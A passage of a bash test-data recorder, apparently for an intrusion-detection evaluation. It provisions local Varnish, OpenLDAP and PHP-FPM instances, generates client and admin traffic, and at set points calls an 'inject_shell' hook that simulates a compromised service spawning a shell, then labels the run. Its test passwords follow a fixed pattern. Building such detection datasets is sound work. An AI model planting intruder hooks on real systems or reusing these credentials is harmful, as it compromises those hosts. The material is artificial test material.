import directors;
import std;

probe health { .url = "/static/app.css"; .interval = 1s; .timeout = 500ms; .window = 3; .threshold = 2; }
backend web1 { .host = "127.0.0.1"; .port = "${VN_ORIGIN_PORTS[0]}"; .probe = health; }
backend web2 { .host = "127.0.0.1"; .port = "${VN_ORIGIN_PORTS[1]}"; .probe = health; }
$web3
acl purgers { "127.0.0.1"; }

sub vcl_init {
  new site = directors.round_robin();
  site.add_backend(web1);
  site.add_backend(web2);
  $add3
}

sub vcl_recv {
  set req.backend_hint = site.backend();
  if (req.method == "PURGE" || req.method == "BAN") {
    if (client.ip !~ purgers) { return (synth(405, "Not allowed")); }
    if (req.method == "PURGE") { return (purge); }
    if (std.ban("obj.http.x-url ~ " + req.http.X-Ban-Url)) { return (synth(200, "Ban added")); }
    return (synth(400, std.ban_error()));
  }
  if (req.url ~ "^/admin") { return (pass); }
  unset req.http.Cookie;
}

sub vcl_backend_response {
  set beresp.http.x-url = bereq.url;
  if (bereq.url ~ "^/page/") { set beresp.ttl = $((10 * (1 + VN_RELEASE % 3)))s; set beresp.grace = 30s; }
  if (bereq.url ~ "^/news/") { set beresp.ttl = 2s; set beresp.grace = 10s; }
  $assets
}

sub vcl_deliver {
  unset resp.http.x-url;
  if (obj.hits > 0) { set resp.http.X-Cache = "HIT"; } else { set resp.http.X-Cache = "MISS"; }
  $served
}
VCL
  chmod 644 "$VN_VCL"
}

VN_PID=
VN_ROUND=0
VN_LOADS=0
# Started as varnish.service does (ExecStart, as root; -F); ready once it serves a page
# through a healthy backend.
varnish_start() {
  launch varnish root /usr/sbin/varnishd -F -j unix,user=vcache -a "127.0.0.1:$VARNISH_PORT" \
    -T "127.0.0.1:$VARNISH_ADMIN_PORT" -S "$VN_SECRET" -n "$VN_INST" -f "$VN_VCL" \
    -s "file,$VN_STORAGE/cache.bin,64m"
  VN_PID=$LAUNCHED
  until_ok curl -sf -o /dev/null "$VN_URL/static/app.css"
}
# TERM: the manager stops the child and exits; the rounds and VCL loads so far are reported
# (the README counts them).
varnish_stop() {
  stop_pid "$VN_PID" TERM
  echo "record-testdata: varnish: $VN_ROUND rounds, $VN_LOADS VCL loads so far" >&2
}
# varnish_adm ARGS...: the operator's varnishadm on the host (outside the cgroup), over the
# CLI port with the secret.
varnish_adm() {
  varnishadm -T "127.0.0.1:$VARNISH_ADMIN_PORT" -S "$VN_SECRET" "$@" >/dev/null || die "varnishadm $* failed"
}
# varnish_reload [heldout]: a new release of conf/default.vcl loaded and used as Debian's
# varnishreload does (vcl.load under a new name, so the manager compiles it, then vcl.use).
varnish_reload() {
  local name
  VN_RELEASE=$((VN_RELEASE + 1))
  varnish_vcl "$@"
  name=reload_$(date +%Y%m%d_%H%M%S)_$VN_RELEASE
  varnish_adm vcl.load "$name" "$VN_VCL"
  varnish_adm vcl.use "$name"
  VN_LOADS=$((VN_LOADS + 1))
}
# varnish_get NET FIRST COUNT PER CONC PATH...: the paths through varnish (spread_get).
varnish_get() { spread_get "$VARNISH_PORT" "$1" "$2" "$3" 7 3 "$VN_ROUND" "${@:4}"; }
# varnish_cmd CMD...: the operator's command run as root inside the cgroup (varnishd -C,
# varnishstat).
varnish_cmd() { admin varnish root "$@"; }

# Mix A: three clients (127.0.0.2-4), four requests per connection: the home page, pages 1-20,
# css, js, images 1-10 (hits), news 1-5, the API's no-store answers, an account page, /admin
# (passed), a scanner path; a PURGE of a page from 127.0.0.1 and one from 127.0.0.3 (refused by
# the ACL); every fourth round an HTTP BAN of the news; a varnishadm command in turn
# (vcl.list, backend.list, param.show, a ban and ban.list).
varnish_mix_a() {
  local r=$((VN_ROUND += 1)) paths
  mapfile -t paths < <(squid_seq /page/ 1 20; squid_seq /img/ 1 10 .png; squid_seq /news/ 1 5)
  varnish_get 127.0.0 2 3 4 3 / /static/app.css /static/app.js /api/status "/account/$((r % 6))" /admin/ \
    "/admin/orders?page=$((r % 5))" /wp-login.php "${paths[@]}"
  addr_curl 127.0.0.1 -X PURGE "$VN_URL/page/$((1 + r % 20))"
  addr_curl 127.0.0.3 -X PURGE "$VN_URL/static/app.css"
  [ $((r % 4)) != 0 ] || addr_curl 127.0.0.1 -X BAN -H 'X-Ban-Url: ^/news/' "$VN_URL/"
  case $((r % 4)) in
    0) varnish_adm vcl.list ;;
    1) varnish_adm backend.list ;;
    2) varnish_adm param.show default_ttl ;;
    3) varnish_adm ban obj.http.x-url '~' "^/img/$((1 + r % 10))[.]png$"; varnish_adm ban.list ;;
  esac
}
# Mix B: pages 21-50, images 11-30, documents 1-15, news 6-12, other API paths, /admin/reports
# and a missing one, from 127.0.0.5-8: one connection with all of them, then eight at a time,
# two requests each; HEAD requests, a reload (Cache-Control: no-cache), a PURGE of a document;
# varnishadm backend.list -p and param.show of other parameters; every sixth round a VCL
# release loaded and used.
varnish_mix_b() {
  local r=$((VN_ROUND += 1)) paths
  mapfile -t paths < <(squid_seq /page/ 21 50; squid_seq /img/ 11 30 .png; squid_seq /docs/ 1 15 .pdf
                       squid_seq /news/ 6 12)
  varnish_get 127.0.0 5 4 999 1 /api/items "/api/search?q=$RANDOM" /admin/reports "${paths[@]}"
  varnish_get 127.0.0 5 4 2 8 /api/items /missing.html "${paths[@]}"
  addr_curl 127.0.0.6 -I "$VN_URL/docs/$((r % 15 + 1)).pdf"
  addr_curl 127.0.0.7 -H 'Cache-Control: no-cache' "$VN_URL/img/$((r % 20 + 11)).png"
  addr_curl 127.0.0.1 -X PURGE "$VN_URL/docs/$(((r + 7) % 15 + 1)).pdf"
  varnish_adm backend.list -p
  varnish_adm param.show default_grace
  [ $((r % 6)) != 3 ] || varnish_reload
}
# Its maintenance in training, in turn: a VCL release loaded and used (varnish_reload); the
# operator's checks: the VCL compiled by `varnishd -C` as root inside the cgroup (a workdir
# of its own, so the running instance's is left alone), the VCLs no longer used discarded
# (vcl.list, vcl.discard), and the counters read with `varnishstat -1` inside the cgroup.
VN_JOBS=0
varnish_maintenance() {
  if [ $((VN_JOBS++ % 2)) = 0 ]; then varnish_reload; return; fi
  local name
  varnish_cmd /usr/sbin/varnishd -C -n "$VN_DIR/check" -f "$VN_VCL"
  for name in $(varnishadm -T "127.0.0.1:$VARNISH_ADMIN_PORT" -S "$VN_SECRET" vcl.list |
                awk '$1 == "available" { print $NF }'); do
    varnish_adm vcl.discard "$name"
  done
  varnish_cmd /usr/bin/varnishstat -n "$VN_INST" -1
}

# The generic intruder script as vcache (an exploited cache child executing a shell) in the
# file storage's directory. varnishd itself runs /bin/sh -c (its C compiler) at each VCL load.
varnish_inject() { inject_shell varnish vcache "$VN_STORAGE"; }
varnish_labels() { write_labels varnish "$VN_STORAGE" "" shell-known; }

# Held out, from a fresh provisioning. A third origin goes live (127.0.0.1:${VN_ORIGIN_PORTS[2]})
# and a new VCL version adds it to the director, keeps assets a day and adds X-Served-By and
# X-Release headers, loaded by vcl.load under a new name and used. Each round clients from
# 127.0.27.1-250 (another offset each round), six at a time: 25 stylesheets of a new static
# release, pages 30-80, documents 16-30, assets and large files never asked for before; a
# range request of a large file, a HEAD; origin web2 goes down at round 3 (its health probe
# fails, the director skips it) and comes back at round 6. Every 20 s a ban storm: 40 bans by
# varnishadm in one session and 20 HTTP BANs from 127.0.0.1 at once, then ban.list. After the
# restart, another release of the new VCL is loaded and used.
varnish_heldout_deploy() {
  VN_ROUND=0
  varnish_origin_up "${VN_ORIGIN_PORTS[2]}"
  varnish_reload heldout
}
varnish_heldout_mix() {
  local r=$((VN_ROUND += 1)) a paths
  case $r in
    3) varnish_origin_down "${VN_ORIGIN_PORTS[1]}" ;;
    6) varnish_origin_up "${VN_ORIGIN_PORTS[1]}" ;;
  esac
  mapfile -t paths < <(squid_seq "/static/v2/r$r-" 1 25 .css; squid_seq /page/ $((30 + r % 20)) $((60 + r % 20))
                       squid_seq /docs/ 16 30 .pdf; squid_seq /assets/app. 1 4 .js)
  varnish_get 127.0.27 1 250 3 6 / "/news/$((r % 12))" /api/feed /admin/dashboard "/big/$((r % 4)).bin" "${paths[@]}"
  a=127.0.27.$((1 + (r * 37) % 250))
  addr_curl "$a" -r "$((r * 1000))-$((r * 1000 + 65535))" "$VN_URL/big/$(((r + 1) % 4)).bin"
  addr_curl "$a" -I "$VN_URL/assets/logo.svg"
  varnish_adm backend.list
}
varnish_heldout_job() {
  local i
  for i in $(seq 1 40); do echo "ban obj.http.x-url ~ ^/static/v2/r$i-"; done |
    varnishadm -T "127.0.0.1:$VARNISH_ADMIN_PORT" -S "$VN_SECRET" >/dev/null || die "varnishadm ban storm failed"
  local pids=()
  for i in $(seq 30 49); do
    addr_curl 127.0.0.1 -X BAN -H "X-Ban-Url: ^/page/$i\$" "$VN_URL/" &
    pids+=($!)
  done
  wait "${pids[@]}"
  varnish_adm ban.list
}
varnish_heldout_reload() { varnish_reload heldout; }

# --- slapd --------------------------------------------------------------------------------

SLAPD_PORT=13890                   # slapd's only listener, ldap://127.0.0.1:13890/
SLAPD_RELAY_BASE=16600             # relays for clients from 127.0.0.A: 127.0.0.1:(16600 + A)
SLAPD_HELDOUT_RELAY_BASE=16900     # heldout's relays for clients from 127.0.29.A: (16900 + A)
SLAPD_DIR=$WORK/slapd
SLAPD_CONF=$SLAPD_DIR/conf/slapd.conf
SLAPD_SUFFIX=dc=example,dc=org
SLAPD_ADMIN=cn=admin,$SLAPD_SUFFIX
SLAPD_PEOPLE=ou=people,$SLAPD_SUFFIX
SLAPD_GROUPS=ou=groups,$SLAPD_SUFFIX

# OpenLDAP 2.5 (Debian slapd) as a directory server, its own instance, not the system service
# (the package installed without a configuration, its init script disabled): `slapd -d stats
# -h ldap://127.0.0.1:$SLAPD_PORT/ -f conf/slapd.conf -u openldap -g openldap` started as root
# in dw-eval/slapd, in the foreground (-d, as container images run it, its stats log on
# stderr: no syslog here); it binds its listener and drops to openldap. Everything from its
# root-owned conf/slapd.conf (group openldap, 640): the core, cosine, nis and inetorgperson
# schema includes, back_mdb, memberof and refint loaded from /usr/lib/ldap, run/slapd.pid
# and run/slapd.args, one MDB database for $SLAPD_SUFFIX in data/ (ou=people, ou=groups,
# ou=services), an admin DN with an {SSHA} password from slappasswd, indexes, ACLs (users
# write their own password and contact attributes, the helpdesk group group membership, the
# services read), the memberof overlay (memberOf kept on users) and refint (members removed
# with their entries). The directory is loaded with slapadd on the provisioning side; its
# clients (ldap-utils) run outside the cgroup; its backups are slapcat exports into backup/.
slapd_provision() {
  if postfix_listening "$SLAPD_PORT"; then die "port $SLAPD_PORT is in use"; fi
  rm -rf "$SLAPD_DIR"
  mkdir -p "$SLAPD_DIR"/{conf,data,run,backup}
  chown openldap:openldap "$SLAPD_DIR"/{data,run,backup}
  chmod 750 "$SLAPD_DIR"/{data,backup}
  SLAPD_PW=()
  slapd_config
  slapd_seed | /usr/sbin/slapadd -q -f "$SLAPD_CONF" >/dev/null || die "slapadd failed"
  chown -R openldap:openldap "$SLAPD_DIR/data"
  # Clients from 127.0.0.2-8 through relays outside the cgroup (ldap-utils bind no source
  # address); started once and kept across restarts and provisionings.
  postfix_listening "$(slapd_at 2)" || start_relays "$SLAPD_PORT" "$SLAPD_RELAY_BASE" 127.0.0 2 3 4 5 6 7 8
  SLAPD_ROUND=0
}

# slapd_config [INDEX...]: conf/slapd.conf; with INDEX, equality indexes on those attributes
# too (heldout's change).
slapd_config() {
  local extra="" a
  for a in "$@"; do extra+="index $a eq"$'\n'; done
  cat >"$SLAPD_CONF" <<CONF
include /etc/ldap/schema/core.schema
include /etc/ldap/schema/cosine.schema
include /etc/ldap/schema/nis.schema
include /etc/ldap/schema/inetorgperson.schema
pidfile $SLAPD_DIR/run/slapd.pid
argsfile $SLAPD_DIR/run/slapd.args
loglevel none
modulepath /usr/lib/ldap
moduleload back_mdb
moduleload memberof
moduleload refint
password-hash {SSHA}
sizelimit 500
idletimeout 120

database mdb
maxsize 268435456
suffix "$SLAPD_SUFFIX"
rootdn "$SLAPD_ADMIN"
rootpw $(slappasswd -s "$(slapd_pass admin)")
directory $SLAPD_DIR/data
index objectClass eq
index uid eq,pres
index mail eq,sub
index cn,sn eq,sub
index member,memberOf eq
${extra}overlay memberof
memberof-group-oc groupOfNames
memberof-member-ad member
memberof-memberof-ad memberOf
memberof-refint TRUE
overlay refint
refint_attributes member
refint_nothing "$SLAPD_ADMIN"
access to attrs=userPassword
  by self write
  by anonymous auth
  by * none
access to dn.subtree="ou=services,$SLAPD_SUFFIX"
  by self read
  by * none
access to dn.subtree="$SLAPD_GROUPS" attrs=member
  by group.exact="cn=helpdesk,$SLAPD_GROUPS" write
  by users read
  by * none
access to attrs=telephoneNumber,mobile,displayName,description,roomNumber,preferredLanguage
  by self write
  by users read
  by * none
access to *
  by users read
  by * none
CONF
  chown root:openldap "$SLAPD_CONF"
  chmod 640 "$SLAPD_CONF"
}

# slapd_pass NAME: NAME's current password (admin, a user, or a service); slapd_dn NAME: its DN.
declare -A SLAPD_PW=()
slapd_pass() { echo "${SLAPD_PW[$1]:-dw-eval-$1-ldap}"; }
slapd_dn() {
  case $1 in
    admin) echo "$SLAPD_ADMIN" ;;
    webapp | mailgw | vpngw) echo "cn=$1,ou=services,$SLAPD_SUFFIX" ;;
    c[0-9][0-9][0-9]) echo "uid=$1,ou=contractors,$SLAPD_SUFFIX" ;;
    *) echo "uid=$1,$SLAPD_PEOPLE" ;;
  esac
}
# slapd_person NAME GIVEN SN [OU [MORE_LDIF]]: an inetOrgPerson entry for NAME with its
# hashed password.
slapd_person() {
  cat <<LDIF
dn: uid=$1,ou=${4:-people},$SLAPD_SUFFIX
objectClass: inetOrgPerson
uid: $1
cn: $2 $3
givenName: $2
sn: $3
mail: $1@example.org
telephoneNumber: +1 555 0100
userPassword: $(slappasswd -s "$(slapd_pass "$1")")
${5:-}

LDIF
}
# slapd_group NAME MEMBER...: a groupOfNames of the users MEMBER.
slapd_group() {
  local m
  printf 'dn: cn=%s,%s\nobjectClass: groupOfNames\ncn: %s\n' "$1" "$SLAPD_GROUPS" "$1"
  for m in "${@:2}"; do echo "member: uid=$m,$SLAPD_PEOPLE"; done
  echo
}
# The directory before the first start: the suffix, three units, the users of mixes A and B,
# 40 staff entries (staff01-40, no password), the groups and the service accounts.
slapd_seed() {
  local i s
  printf 'dn: %s\nobjectClass: dcObject\nobjectClass: organization\ndc: example\no: Example Org\n\n' "$SLAPD_SUFFIX"
  for s in people groups services; do printf 'dn: ou=%s,%s\nobjectClass: organizationalUnit\nou: %s\n\n' "$s" "$SLAPD_SUFFIX" "$s"; done
  slapd_person alice Alice Archer
  slapd_person bob Bob Baker
  slapd_person carol Carol Cooper
  slapd_person dave Dave Dunn
  slapd_person erin Erin Ellis
  slapd_person frank Frank Fox
  for i in $(seq -w 1 40); do
    printf 'dn: uid=staff%s,%s\nobjectClass: inetOrgPerson\nuid: staff%s\ncn: Staff %s\nsn: Staff\nmail: staff%s@example.org\n\n' \
      "$i" "$SLAPD_PEOPLE" "$i" "$i" "$i"
  done
  slapd_group engineering alice bob dave staff01 staff02 staff03 staff04 staff05 staff06 staff07 staff08
  slapd_group sales carol erin staff21 staff22 staff23 staff24 staff25
  slapd_group helpdesk carol frank
  slapd_group vpn-users alice carol erin frank
  for s in webapp mailgw vpngw; do
    printf 'dn: %s\nobjectClass: applicationProcess\nobjectClass: simpleSecurityObject\ncn: %s\nuserPassword: %s\n\n' \
      "$(slapd_dn "$s")" "$s" "$(slappasswd -s "$(slapd_pass "$s")")"
  done
}

SLAPD_PID=
slapd_start() {
  launch slapd root /usr/sbin/slapd -d stats -h "ldap://127.0.0.1:$SLAPD_PORT/" -f "$SLAPD_CONF" -u openldap -g openldap
  SLAPD_PID=$LAUNCHED
  until_ok postfix_listening "$SLAPD_PORT"
}
# TERM: slapd closes its connections and the database and exits; the rounds so far are
# reported (the README counts them).
slapd_stop() {
  stop_pid "$SLAPD_PID" TERM
  echo "record-testdata: slapd: $SLAPD_ROUND rounds so far" >&2
}

# slapd_ldap PORT WHO TOOL ARG...: one ldap-utils client (outside the cgroup) through the
# relay on PORT, a simple bind as WHO (slapd_dn; its current password, or WHO/PASSWORD for a
# typed one), TOOL (ldapsearch, ldapwhoami, ldapmodify, ldappasswd ...) with ARG..., its
# standard input SLAPD_LDIF; in the background (a failed bind or operation is part of the
# traffic): slapd_clients waits for them.
SLAPD_CLIENT_PIDS=()
slapd_ldap() {
  local who=$2 pass
  case $who in */*) pass=${who#*/} who=${who%%/*} ;; *) pass=$(slapd_pass "$who") ;; esac
  timeout 20 "/usr/bin/$3" -x -H "ldap://127.0.0.1:$1" -D "$(slapd_dn "$who")" -w "$pass" "${@:4}" \
    >/dev/null 2>&1 <<<"${SLAPD_LDIF:-}" &
  SLAPD_CLIENT_PIDS+=($!)
}
slapd_clients() {
  wait "${SLAPD_CLIENT_PIDS[@]}" || true
  SLAPD_CLIENT_PIDS=()
}
# slapd_search PORT WHO BASE FILTER [ATTR...]: a subtree search under BASE;
# slapd_paged PORT WHO SIZE BASE FILTER [ATTR...]: the same in pages of SIZE (the paged
# results control).
slapd_search() { slapd_ldap "$1" "$2" ldapsearch -LLL -b "$3" "${@:4}"; }
slapd_paged() { slapd_ldap "$1" "$2" ldapsearch -LLL -E "pr=$3/noprompt" -b "$4" "${@:5}"; }
# slapd_passwd PORT NAME: NAME changes its own password (Password Modify extended operation).
slapd_passwd() {
  local old new
  old=$(slapd_pass "$2")
  new=dw-eval-$2-ldap-$SLAPD_ROUND
  slapd_ldap "$1" "$2/$old" ldappasswd -a "$old" -s "$new"
  SLAPD_PW[$2]=$new
}
# slapd_at A: the relay port for clients from 127.0.0.A.
slapd_at() { echo $((SLAPD_RELAY_BASE + $1)); }

# Mix A, from 127.0.0.2-4: the web application (service account webapp, .2) checks a login
# (alice's bind) and reads her entry with memberOf; the mail gateway (mailgw, .3) looks up a
# recipient by mail and its groups by member; alice (.4) changes her telephone number and
# reads her entry back; every third round webapp lists ou=people in pages of 10 (paged results
# control); every fourth a failed bind (carol, a wrong password); every fifth the admin's
# provisioning tool (.2) adds a temporary account and deletes the one of five rounds before;
# every tenth bob changes his password (ldappasswd, .3).
slapd_mix_a() {
  local r=$((SLAPD_ROUND += 1))
  slapd_ldap "$(slapd_at 2)" alice ldapwhoami
  slapd_search "$(slapd_at 2)" webapp "$SLAPD_PEOPLE" "(uid=alice)" cn mail memberOf
  slapd_search "$(slapd_at 3)" mailgw "$SLAPD_SUFFIX" "(mail=bob@example.org)" uid mail
  slapd_search "$(slapd_at 3)" mailgw "$SLAPD_GROUPS" "(&(objectClass=groupOfNames)(member=uid=bob,$SLAPD_PEOPLE))" cn
  SLAPD_LDIF="dn: uid=alice,$SLAPD_PEOPLE
changetype: modify
replace: telephoneNumber
telephoneNumber: +1 555 01$((r % 100))" slapd_ldap "$(slapd_at 4)" alice ldapmodify
  slapd_ldap "$(slapd_at 4)" alice ldapsearch -LLL -s base -b "uid=alice,$SLAPD_PEOPLE"
  [ $((r % 3)) != 0 ] || slapd_paged "$(slapd_at 2)" webapp 10 "$SLAPD_PEOPLE" "(objectClass=inetOrgPerson)" uid mail
  [ $((r % 4)) != 0 ] || slapd_ldap "$(slapd_at 4)" carol/wrong-password ldapwhoami
  if [ $((r % 5)) = 0 ]; then
    SLAPD_LDIF=$(printf 'dn: uid=temp%s,%s\nobjectClass: inetOrgPerson\nuid: temp%s\ncn: Temp %s\nsn: Temp\n' "$r" "$SLAPD_PEOPLE" "$r" "$r") \
      slapd_ldap "$(slapd_at 2)" admin ldapadd
    slapd_ldap "$(slapd_at 2)" admin ldapdelete "uid=temp$((r - 5)),$SLAPD_PEOPLE"
  fi
  [ $((r % 10)) != 0 ] || slapd_passwd "$(slapd_at 3)" bob
  slapd_clients
}
# Mix B, from 127.0.0.5-8, other users, queries and attributes: the VPN gateway (vpngw, .5)
# checks erin's login and her vpn-users membership by memberOf; dave (.6) changes his
# display name and description and searches staff by a cn substring; frank of the helpdesk
# (.7) moves a staff member in and out of sales and compares helpdesk's membership
# (ldapcompare); the admin (.8) reads the root DSE's operational attributes and, every other
# round, pages through the groups and people 25 at a time; every third round erin changes her
# mobile number; every fifth dave mistypes his password; every sixth erin changes hers.
slapd_mix_b() {
  local r=$((SLAPD_ROUND += 1)) s
  s=staff$((30 + r % 10))
  slapd_ldap "$(slapd_at 5)" erin ldapwhoami
  slapd_search "$(slapd_at 5)" vpngw "$SLAPD_PEOPLE" "(&(uid=erin)(memberOf=cn=vpn-users,$SLAPD_GROUPS))" uid
  SLAPD_LDIF="dn: uid=dave,$SLAPD_PEOPLE
changetype: modify
replace: displayName
displayName: Dave D. ($r)
-
replace: description
description: on call week $((r % 52))" slapd_ldap "$(slapd_at 6)" dave ldapmodify
  slapd_search "$(slapd_at 6)" dave "$SLAPD_PEOPLE" "(cn=Staff 1*)" cn telephoneNumber
  SLAPD_LDIF="dn: cn=sales,$SLAPD_GROUPS
changetype: modify
add: member
member: uid=$s,$SLAPD_PEOPLE

dn: cn=sales,$SLAPD_GROUPS
changetype: modify
delete: member
member: uid=staff$((30 + (r + 5) % 10)),$SLAPD_PEOPLE" slapd_ldap "$(slapd_at 7)" frank ldapmodify -c
  slapd_ldap "$(slapd_at 7)" frank ldapcompare "cn=helpdesk,$SLAPD_GROUPS" "member:uid=frank,$SLAPD_PEOPLE"
  slapd_ldap "$(slapd_at 8)" admin ldapsearch -LLL -s base -b "" +
  if [ $((r % 2)) = 0 ]; then
    slapd_paged "$(slapd_at 8)" admin 25 "$SLAPD_GROUPS" "(objectClass=groupOfNames)" cn member
    slapd_paged "$(slapd_at 8)" admin 25 "$SLAPD_PEOPLE" "(sn=*)" uid sn memberOf
  fi
  if [ $((r % 3)) = 0 ]; then
    SLAPD_LDIF="dn: uid=erin,$SLAPD_PEOPLE
changetype: modify
replace: mobile
mobile: +1 555 02$((r % 100))" slapd_ldap "$(slapd_at 6)" erin ldapmodify
  fi
  [ $((r % 5)) != 0 ] || slapd_ldap "$(slapd_at 6)" dave/not-his-password ldapwhoami
  [ $((r % 6)) != 0 ] || slapd_passwd "$(slapd_at 5)" erin
  slapd_clients
}

# slapd_admin TOOL ARG...: one of OpenLDAP's own tools, run by the operator as openldap inside
# the cgroup on the instance's config (slapcat, slapindex, slaptest).
slapd_admin() { admin slapd openldap "/usr/sbin/$1" -f "$SLAPD_CONF" "${@:2}"; }
# slapd_backup NAME [ARG...]: a slapcat export into backup/NAME-<time>.ldif (ARG: e.g. -b for
# one subtree).
slapd_backup() { slapd_admin slapcat -l "$SLAPD_DIR/backup/$1-$(date +%Y%m%d-%H%M%S).ldif" "${@:2}"; }
# Its scheduled jobs in training: the nightly export (slapcat into backup/), the config
# checked (`slaptest -u`) and the MDB environment's statistics (`mdb_stat -e`).
slapd_maintenance() {
  slapd_backup dit
  slapd_admin slaptest -u
  admin slapd openldap /usr/bin/mdb_stat -e "$SLAPD_DIR/data"
}

# The generic intruder script as openldap (an exploited slapd, e.g. through a backend or
# overlay bug, executing a shell) in its MDB data directory.
slapd_inject() { inject_shell slapd openldap "$SLAPD_DIR/data"; }
slapd_labels() { write_labels slapd "$SLAPD_DIR/data"; }

# Held out, from a fresh provisioning. The administrator (through a relay) imports a new unit,
# ou=contractors, with 30 contractors (ldapadd, one LDIF) that carry attributes training
# never used (employeeNumber, departmentNumber, title), and a new group project-atlas of
# them; each round six clients from 127.0.29.1-250 (relays on 24 addresses, another offset
# each round): webapp looks up contractors by employeeNumber and departmentNumber, a
# contractor logs in and sets his mobile number, the mail gateway finds one by mail, carol of
# the helpdesk adds a contractor to project-atlas and vpn-users (and removes the one added
# seven rounds before from project-atlas),
# bob lists project-atlas's members by memberOf, and the admin pages through ou=contractors
# 20 at a time; every fourth round a contractor replaces the initial password (ldappasswd);
# every third round the admin imports three more contractors. Every 20 s in
# turn: a new index (employeeNumber, departmentNumber) added to the config, applied by a
# stop, `slapindex` on those attributes and `slaptest -u` as openldap in the cgroup, and a
# start; a slapcat export of ou=contractors alone into backup/contractors-<time>.ldif.
SLAPD_HELDOUT_ADDRS=()
SLAPD_CONTRACTORS=0
slapd_heldout_deploy() {
  local i
  SLAPD_HELDOUT_ADDRS=()
  for i in $(seq 0 23); do SLAPD_HELDOUT_ADDRS+=($((2 + i * 10 + i % 4 + i % 5))); done
  postfix_listening $((SLAPD_HELDOUT_RELAY_BASE + SLAPD_HELDOUT_ADDRS[0])) ||
    start_relays "$SLAPD_PORT" "$SLAPD_HELDOUT_RELAY_BASE" 127.0.29 "${SLAPD_HELDOUT_ADDRS[@]}"
  SLAPD_CONTRACTORS=0
  SLAPD_HELDOUT_JOBS=0
  slapd_contractors 30
  SLAPD_LDIF="dn: ou=contractors,$SLAPD_SUFFIX
objectClass: organizationalUnit
ou: contractors

$SLAPD_LDIF$(slapd_group project-atlas bob)" slapd_ldap "$(slapd_from 0)" admin ldapadd -c
  slapd_clients
  SLAPD_LDIF=
}
# slapd_contractors N: the LDIF of the next N contractors (cNNN in ou=contractors) into
# SLAPD_LDIF, counted in SLAPD_CONTRACTORS.
slapd_contractors() {
  local i n
  SLAPD_LDIF=
  for i in $(seq $((SLAPD_CONTRACTORS + 1)) $((SLAPD_CONTRACTORS + $1))); do
    n=$(printf 'c%03d' "$i")
    SLAPD_LDIF+="$(slapd_person "$n" Contractor "$n" contractors "employeeNumber: $((70000 + i))
departmentNumber: D$((i % 6 + 10))
title: contractor")"$'\n\n'
  done
  SLAPD_CONTRACTORS=$((SLAPD_CONTRACTORS + $1))
}
# slapd_from K: the relay port for the K-th client of this round (127.0.29.x).
slapd_from() {
  local n=${#SLAPD_HELDOUT_ADDRS[@]}
  echo $((SLAPD_HELDOUT_RELAY_BASE + SLAPD_HELDOUT_ADDRS[($1 * 7 + SLAPD_ROUND * 5) % n]))
}
slapd_heldout_mix() {
  local r=$((SLAPD_ROUND += 1)) c o ou=ou=contractors,$SLAPD_SUFFIX
  c=$(printf 'c%03d' $((r % 30 + 1)))
  o=$(printf 'c%03d' $(((r + 23) % 30 + 1)))
  slapd_search "$(slapd_from 1)" webapp "$ou" "(employeeNumber=$((70000 + r % SLAPD_CONTRACTORS + 1)))" cn mail departmentNumber memberOf
  slapd_search "$(slapd_from 1)" webapp "$SLAPD_SUFFIX" "(departmentNumber=D$((r % 6 + 10)))" uid title
  slapd_ldap "$(slapd_from 2)" "$c" ldapwhoami
  SLAPD_LDIF="dn: uid=$c,$ou
changetype: modify
replace: mobile
mobile: +1 555 03$((r % 100))" slapd_ldap "$(slapd_from 2)" "$c" ldapmodify
  slapd_search "$(slapd_from 3)" mailgw "$SLAPD_SUFFIX" "(mail=$o@example.org)" uid mail
  SLAPD_LDIF="dn: cn=project-atlas,$SLAPD_GROUPS
changetype: modify
add: member
member: uid=$c,$ou

dn: cn=vpn-users,$SLAPD_GROUPS
changetype: modify
add: member
member: uid=$c,$ou

dn: cn=project-atlas,$SLAPD_GROUPS
changetype: modify
delete: member
member: uid=$o,$ou" slapd_ldap "$(slapd_from 4)" carol ldapmodify -c
  slapd_search "$(slapd_from 5)" bob "$SLAPD_SUFFIX" "(memberOf=cn=project-atlas,$SLAPD_GROUPS)" uid title
  slapd_paged "$(slapd_from 6)" admin 20 "$ou" "(objectClass=inetOrgPerson)" uid employeeNumber
  [ $((r % 4)) != 2 ] || slapd_passwd "$(slapd_from 5)" "$(printf 'c%03d' $(((r + 11) % 30 + 1)))"
  if [ $((r % 3)) = 0 ]; then
    slapd_contractors 3
    slapd_ldap "$(slapd_from 6)" admin ldapadd -c
    SLAPD_LDIF=
  fi
  slapd_clients
}
SLAPD_HELDOUT_JOBS=0
slapd_heldout_job() {
  SLAPD_HELDOUT_JOBS=$((SLAPD_HELDOUT_JOBS + 1))
  if [ $((SLAPD_HELDOUT_JOBS % 2)) = 1 ]; then
    slapd_config employeeNumber departmentNumber
    slapd_stop
    slapd_admin slapindex -q employeeNumber departmentNumber
    slapd_admin slaptest -u
    slapd_start
  else
    slapd_backup contractors -b "ou=contractors,$SLAPD_SUFFIX"
  fi
}

# --- phpfpm -------------------------------------------------------------------------------

PHPFPM_PORT=18680                  # the front (nginx, outside the cgroup) the HTTP clients use
PF_WWW_PORT=18690                  # pool www: the site
PF_API_PORT=18691                  # pool api: /api/
PF_REPORTS_PORT=18692              # pool reports (heldout, after the reload): /export/ and /report/
PF_DIR=$WORK/phpfpm
PF_CONF=$PF_DIR/conf/php-fpm.conf
PF_INI=$PF_DIR/conf/php.ini
PF_RELEASES=$PF_DIR/app/releases   # one directory per release (root-owned)
PF_CURRENT=$PF_DIR/app/current     # the symlink to the live release
PF_DATA=$PF_DIR/data               # www-data's: shop.sqlite (and its journal), reports/
PF_UPLOADS=$PF_DIR/uploads         # www-data's: uploads/<year>/<month>/<random>.<ext>
PF_SESS=$PF_DIR/sessions           # www-data's: sess_<id>
PF_FRONT=$WORK/phpfpm-front        # the front's config, logs and buffers (outside the cgroup)
PF_CLIENT=$WORK/phpfpm-client      # the clients' cookie jars and files to upload
# The php CLI with the pool's php.ini and PDO's SQLite driver (the CLI's own configuration
# leaves it off), for the application's scripts.
PF_PHP=(/usr/bin/php8.2 -c "$PF_INI" -d extension=pdo_sqlite)

# PHP-FPM 8.2 (Debian php8.2-fpm) as a FastCGI application server, its own instance, not the
# system service (php8.2-fpm.service stopped and disabled): `php-fpm8.2 -t` (the config test,
# as the init script's), then `php-fpm8.2 -F -y conf/php-fpm.conf -c conf/php.ini` started as
# root in dw-eval/phpfpm, in the foreground (as the unit's --nodaemonize); the master opens its
# logs, binds its pools' ports and forks each pool's workers as www-data: pool www on
# 127.0.0.1:$PF_WWW_PORT (the site) and pool api on 127.0.0.1:$PF_API_PORT (the JSON API), both
# pm = dynamic (workers started and ended as the load comes and goes), each with its status
